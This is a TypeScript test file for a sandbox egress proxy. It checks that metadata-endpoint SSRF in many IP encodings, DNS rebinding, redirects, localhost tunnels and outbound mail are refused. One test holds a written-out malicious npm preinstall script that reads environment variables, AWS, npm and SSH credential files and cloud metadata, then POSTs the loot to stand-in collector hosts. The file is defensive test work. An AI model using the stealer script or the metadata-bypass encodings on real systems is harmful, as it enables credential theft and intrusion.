import { subscribe, unsubscribe } from "node:diagnostics_channel";
import { once } from "node:events";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer, type RequestListener } from "node:http";
import type { AddressInfo, Socket } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { beforeAll, beforeEach, expect, test } from "vitest";
import { createBench } from "../testing/bench.ts";
import { cleanUp } from "../testing/clean-up.ts";

const canary = "canary-of-the-network-4714";

type Bench = Awaited<ReturnType<typeof createBench>>;
let bench: Bench;
/** What each name has as its next addresses. */
const addresses = new Map<string, string[]>();
const asked: string[] = [];
/** Of the worker's, with a secret to give. */
let inner: Awaited<ReturnType<typeof listen>>;

async function listen(answer: RequestListener) {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`);
    answer(request, response);
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  return { requests, port: (server.address() as AddressInfo).port, stop: () => server.close() };
}

beforeAll(async () => {
  inner = await listen((_, response) => response.end(canary));
  const redirecting = await listen((request, response) => {
    response.writeHead(302, { location: new URL(`http://x${request.url}`).searchParams.get("to") ?? "" }).end();
  });
  bench = await createBench(
    {},
    {
      routes: { "redirecting.example:80": `127.0.0.1:${redirecting.port}` },
      async resolve(host) {
        asked.push(host);
        const next = addresses.get(host)?.shift();
        if (next === undefined) throw new Error(`${host} has no address`);
        return next;
      },
    },
  );
  return async () => {
    redirecting.stop();
    inner.stop();
    await bench.close();
  };
});
beforeEach(() => {
  asked.length = 0;
  bench.refused.length = 0;
});

/** A client of the build's own, which sends each of these to the proxy and prints how each answer begins. */
const speak = (...requests: string[]) => [
  "node",
  "-e",
  `for (const bytes of ${JSON.stringify(requests)}) {
     const socket = require("net").connect(3128, "127.0.0.1", () => socket.write(bytes));
     socket.once("data", (answer) => { console.log(answer.toString().split("\\r\\n")[0]); socket.destroy(); });
   }`,
];

const get = (url: string) => `GET ${url} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n`;
const tunnel = (place: string) => `CONNECT ${place} HTTP/1.1\r\nhost: x\r\n\r\n`;

const metadata = [
  ...["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "169.254.169.254."],
  ...["[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]"],
];

test.each(["build", "deploy", "everything"] as const)(
  "threat 18: asks for the machine's credentials in every way of writing, where %s is allowed: blocked",
  async (phase) => {
    const requests = metadata.flatMap((host) => [get(`http://${host}/latest/meta-data/`), tunnel(`${host}:80`)]);
    const allow = phase === "everything" ? ["*"] : bench.hosts[phase];
    const { text } = await bench.run(speak(...requests), { allow });
    expect(text).toBe("HTTP/1.1 403 Forbidden\n".repeat(requests.length));
    for (const line of bench.refused) expect(line).toMatch(/^blocked: .*, instance metadata$/);
    expect(bench.refused).toContain("blocked: 169.254.169.254, instance metadata");
  },
);

test("threat 18: a name that leads to the machine's credentials: blocked, with what it led to", async () => {
  addresses.set("rebound.example", ["169.254.169.254"]);
  await bench.run(speak(get("http://rebound.example/latest/meta-data/")), { allow: ["rebound.example"] });
  expect(bench.refused).toEqual(["blocked: rebound.example (169.254.169.254), instance metadata"]);
});

test("threat 18: a name that is public when it is looked at and the worker's own when it is connected: the one that was looked at", async () => {
  const tried: string[] = [];
  const watch = (message: unknown) => {
    (message as { socket: Socket }).socket.on("connectionAttempt", (address: string) => tried.push(address));
  };
  subscribe("net.client.socket", watch);
  cleanUp(() => unsubscribe("net.client.socket", watch));
  // Nobody's: it answers to no one.
  addresses.set("rebinding.example", ["192.0.2.1", "127.0.0.1"]);
  const { text } = await bench.run(speak(tunnel("rebinding.example:80")), { allow: ["*"], timeoutMs: 15_000 });
  expect(text).not.toContain("200");
  expect(asked).toEqual(["rebinding.example"]);
  expect(tried).toEqual(["192.0.2.1"]);
});

test("threat 18: a redirect to the machine's credentials: blocked", async () => {
  const url = "http://redirecting.example/?to=http://169.254.169.254/latest/meta-data/";
  const script = `fetch("${url}").then((answer) => answer.text()).then(console.log, console.log)`;
  const { text } = await bench.run(["node", "-e", script], { allow: ["*"] });
  expect(text).toContain("403");
  expect(bench.refused).toEqual(["blocked: 169.254.169.254, instance metadata"]);
});

test("threat 18: goes around the proxy: there is no other way", async () => {
  const direct = `for (const host of ["169.254.169.254", "192.0.2.1", "${innerAddress()}"])
    require("net").connect(80, host).on("error", (error) => console.log(error.code)).on("connect", () => console.log("connected"));`;
  expect((await bench.run(["node", "-e", direct], { allow: ["*"] })).text).toBe("ENETUNREACH\n".repeat(3));
  const { text } = await bench.run([
    "node",
    "-e",
    `require("dns").lookup("example.com", (error) => console.log(error.code))`,
  ]);
  expect(text).toMatch(/^EAI_AGAIN|^ENOTFOUND/);
});

/** One that this machine has on a network, where it is on one. */
function innerAddress(): string {
  const found = Object.values(networkInterfaces()).flatMap((each = []) => each);
  return found.find(({ family, internal }) => family === "IPv4" && !internal)?.address ?? "10.0.0.1";
}

test("threat 18: what listens beside the worker: blocked by name and by address", async () => {
  addresses.set("localhost", ["127.0.0.1"]);
  const places = [`localhost:${inner.port}`, `127.0.0.1:${inner.port}`, `${innerAddress()}:443`, "localhost:80"];
  const { text } = await bench.run(speak(...places.map(tunnel)), { allow: ["*"] });
  expect(text).toBe("HTTP/1.1 403 Forbidden\n".repeat(places.length));
  expect(inner.requests).toEqual([]);
});

test("threat 18: a mail server, a login: blocked, also where every host is allowed", async () => {
  addresses.set("mail.example", ["192.0.2.1"]);
  await bench.run(speak(tunnel("mail.example:25")), { allow: ["*"] });
  expect(bench.refused).toEqual(["blocked: mail.example, port 25 is not allowed"]);
});

test("threat 13: a dependency's install script looks for credentials everywhere and sends what it finds: it finds none, and sends nothing", async () => {
  const home = await mkdtemp(join(tmpdir(), "home-"));
  cleanUp(() => rm(home, { recursive: true }));
  await writeFile(join(home, "credentials"), canary);
  process.env.AWS_SECRET_ACCESS_KEY = canary;
  process.env.NPM_TOKEN = canary;
  cleanUp(() => {
    delete process.env.AWS_SECRET_ACCESS_KEY;
    delete process.env.NPM_TOKEN;
  });
  const thief = `
    const { execSync } = require("node:child_process");
    const look = (command) => { try { return execSync(command, { stdio: ["ignore", "pipe", "ignore"] }).toString(); } catch (error) { return String(error.stdout ?? ""); } };
    const loot = [JSON.stringify(process.env),
      look("cat /proc/*/environ /proc/*/cmdline ~/.aws/* ~/.npmrc ~/.ssh/* ${home}/credentials; find / -xdev -name credentials -exec cat {} +"),
      look("grep -rs ${canary.slice(0, 12)} /home /tmp /etc /opt /run /workspace --include=credentials --include=config --include=.env"),
      look("curl -s --proxy $https_proxy http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ].join("\\n");
    console.log(loot);
    for (const url of ["http://collector.example/", "https://s3.amazonaws.com/collector"])
      fetch(url, { method: "POST", body: loot }).then((answer) => console.log("sent", answer.status), () => undefined);`;
  const repository = await createBench({
    "package.json": JSON.stringify({ name: "victim", version: "1.0.0", dependencies: { thief: "file:thief" } }),
    "thief/package.json": JSON.stringify({ name: "thief", version: "1.0.0", scripts: { preinstall: "node thief.js" } }),
    "thief/thief.js": thief,
  });
  cleanUp(() => repository.close());
  const { exit, text } = await repository.run(["npm", "install", "--foreground-scripts", "--install-links"], {
    allow: repository.hosts.build,
  });
  expect(exit, text).toEqual({ kind: "exited", code: 0 });
  expect(text).toContain('"HOME":"/home/build"');
  expect(text).not.toContain(canary);
  expect(text).not.toContain("sent 200");
  expect(repository.refused).toEqual(
    expect.arrayContaining([
      "blocked: collector.example, not allowed in this phase",
      "blocked: s3.amazonaws.com, not allowed in this phase",
    ]),
  );
});

test("threat 14: a plugin sends its session away in the deploy phase: blocked but to AWS and registries", async () => {
  const places = ["collector.example:443", "gist.github.com:443"];
  await bench.run(speak(...places.map(tunnel)), { allow: bench.hosts.deploy });
  expect(bench.refused.toSorted()).toEqual([
    "blocked: collector.example, not allowed in this phase",
    "blocked: gist.github.com, not allowed in this phase",
  ]);
});
